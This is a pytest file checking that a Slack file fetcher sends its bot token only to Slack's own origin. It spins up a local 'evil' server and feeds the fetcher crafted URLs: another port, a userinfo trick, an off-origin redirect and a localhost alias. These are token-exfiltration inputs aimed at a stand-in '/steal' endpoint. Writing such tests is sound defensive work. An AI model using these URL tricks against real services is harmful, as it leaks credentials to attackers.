"""The bot token never leaves Slack's hosts: not by a crafted file URL, not by a redirect."""

from __future__ import annotations

from pathlib import Path

import pytest
from aiohttp import web

from adapters.slack.files import FileFetcher
from gateway.ports import DownloadBudget

TOKEN = "xoxb-1111-2222-secrettokenvalue"


class _Log:
    def warning(self, *_a: object, **_k: object) -> None:
        pass


@pytest.fixture
async def servers():
    seen: dict[str, list[str | None]] = {"slack": [], "evil": []}

    async def evil(request: web.Request) -> web.Response:
        seen["evil"].append(request.headers.get("Authorization"))
        return web.Response(body=b"stolen")

    evil_app = web.Application()
    evil_app.router.add_get("/{tail:.*}", evil)
    evil_runner = web.AppRunner(evil_app)
    await evil_runner.setup()
    evil_site = web.TCPSite(evil_runner, "127.0.0.1", 0)
    await evil_site.start()
    evil_port = evil_runner.addresses[0][1]

    async def slack(request: web.Request) -> web.Response:
        seen["slack"].append(request.headers.get("Authorization"))
        if request.path.endswith("/bounce"):
            raise web.HTTPFound(f"http://127.0.0.1:{evil_port}/steal")
        if request.path.endswith("/hop"):
            raise web.HTTPFound("/files/real")
        return web.Response(body=b"file bytes")

    slack_app = web.Application()
    slack_app.router.add_get("/{tail:.*}", slack)
    slack_runner = web.AppRunner(slack_app)
    await slack_runner.setup()
    await web.TCPSite(slack_runner, "127.0.0.1", 0).start()
    slack_port = slack_runner.addresses[0][1]
    yield slack_port, evil_port, seen
    await slack_runner.cleanup()
    await evil_runner.cleanup()


def _file(url: str) -> dict[str, object]:
    return {"id": "F1", "name": "a.txt", "mimetype": "text/plain", "size": 10,
            "url_private_download": url}


async def test_token_goes_to_the_slack_origin_and_follows_its_own_redirects(servers, tmp_path):
    slack, _evil, seen = servers
    fetcher = FileFetcher(TOKEN, f"http://127.0.0.1:{slack}/api/")
    got, skipped = await fetcher.fetch_all([_file(f"http://127.0.0.1:{slack}/files/hop")],
                                           tmp_path, DownloadBudget(1024, 4096), _Log())
    assert [Path(a.path).read_bytes() for a in got] == [b"file bytes"] and skipped == ()
    assert seen["slack"] == [f"Bearer {TOKEN}"] * 2


@pytest.mark.parametrize("make_url", [
    lambda s, e: f"http://127.0.0.1:{e}/steal",                       # another host:port
    lambda s, e: f"http://127.0.0.1:{s}:x@127.0.0.1:{e}/steal",       # userinfo trick
    lambda s, e: f"http://127.0.0.1:{s}/files/bounce",                # redirect off the origin
    lambda s, e: f"http://localhost:{s}/files/real",                  # same machine, other name
])
async def test_token_never_reaches_another_host(servers, tmp_path, make_url):
    slack, evil, seen = servers
    fetcher = FileFetcher(TOKEN, f"http://127.0.0.1:{slack}/api/")
    got, skipped = await fetcher.fetch_all([_file(make_url(slack, evil))], tmp_path,
                                           DownloadBudget(1024, 4096), _Log())
    assert got == () and [s.name for s in skipped] == ["a.txt"]
    assert seen["evil"] == []
    assert all(h in (None, f"Bearer {TOKEN}") for h in seen["slack"])
